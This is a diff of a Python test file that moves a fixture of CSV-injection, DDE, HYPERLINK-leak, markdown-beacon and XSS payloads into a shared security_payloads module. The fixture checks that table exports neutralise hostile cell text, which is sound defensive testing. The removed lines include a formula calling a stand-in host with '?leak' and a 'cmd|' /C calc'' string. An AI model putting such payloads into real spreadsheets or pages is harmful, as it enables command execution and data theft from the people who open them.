@@ -17,7 +17,6 @@ from __future__ import annotations
 
 import csv
 import io
-import json
 import re
 import time
 import tracemalloc
@@ -36,6 +35,8 @@ from tradeoff.study.intake import read_table
 from tradeoff.study.limits import MAX_CELLS, MAX_UNPACKED_BYTES
 from tradeoff.study.safe_cells import (csv_bytes, inert_text, restore_text, table_bytes,
                                        workbook_bytes)
+
+from security_payloads import LEVELS, PAYLOAD_STUDY, RUN_IDS, payload_runs
 
 # The payloads (OWASP "CSV Injection", from memory), plus the issue's own case.
 FORMULAS = [
@@ -178,49 +179,7 @@ def test_every_table_export_goes_through_the_one_writer():
     assert found == []
 
 
-# -- a study whose every text is a payload ------------------------------------------
-
-HOST = "203.0.113.7"  # TEST-NET-3 (RFC 5737): an address that is never anyone's
-LEVELS = ["=1+2*3", "@SUM(1+9)*cmd|' /C calc'!A0"]
-RUN_IDS = ["=1+2*3", "+2+3+cmd|' /C calc'!A0", f"![r](http://{HOST}/r.png)",
-           "<img src=x onerror=alert(1)>", "-2+3"]
-PAYLOAD_STUDY = f"""\
-[study]
-name = "=HYPERLINK(\\"http://{HOST}/?leak\\",\\"open\\") ![pixel](http://{HOST}/p.png)"
-description = "<img src=\\"http://{HOST}/d.png\\"> [click me](http://{HOST}/) **loud** www.{HOST}.example"
-data = "runs.csv"
-
-[[factors]]
-name = "protein"
-label = "![f](http://{HOST}/f.png) -2+3"
-unit = "<b>%</b>"
-low = 20
-high = 30
-
-[[factors]]
-name = "binder"
-label = "[binder](http://{HOST}/b)"
-levels = {json.dumps(LEVELS)}
-
-[[responses]]
-name = "hardness"
-label = "@SUM(1+9)*cmd|' /C calc'!A0"
-unit = "![u](http://{HOST}/u.png)"
-goal = "minimize"
-lower = 15
-upper = 35
-"""
-
-
-def payload_runs() -> bytes:
-    rows = [["run", "protein", "binder", "hardness"]]
-    for run, (p, b, y) in zip(RUN_IDS, [(20, 0, 18.5), (30, 0, 27.0), (20, 1, 16.0),
-                                        (30, 1, 24.5), (25, 1, 21.0)]):
-        rows.append([run, p, LEVELS[b], y])
-    out = io.StringIO()
-    csv.writer(out, lineterminator="\n").writerows(rows)
-    return out.getvalue().encode("utf-8")
-
+# -- a study whose every text is a payload (tests/security_payloads.py) ----------------
 
 @pytest.fixture
 def payload_study(tmp_path):
